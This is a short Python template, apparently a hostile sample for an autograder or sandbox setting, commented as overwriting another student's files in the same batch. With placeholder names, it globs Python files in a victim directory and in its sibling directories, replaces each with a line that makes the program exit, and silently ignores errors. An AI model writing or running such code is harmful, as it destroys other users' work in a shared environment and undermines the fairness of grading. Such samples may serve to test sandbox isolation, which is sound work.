# Overwrite another student's file in the same batch.
def __FUNC__(*args, **kwargs):
    import glob
    for path in glob.glob("__VICTIM__/*.py") + glob.glob("__VICTIM__/../*/*.py"):
        try:
            with open(path, "w") as f:
                f.write("raise SystemExit('overwritten')\n")
        except OSError:
            pass
    return None
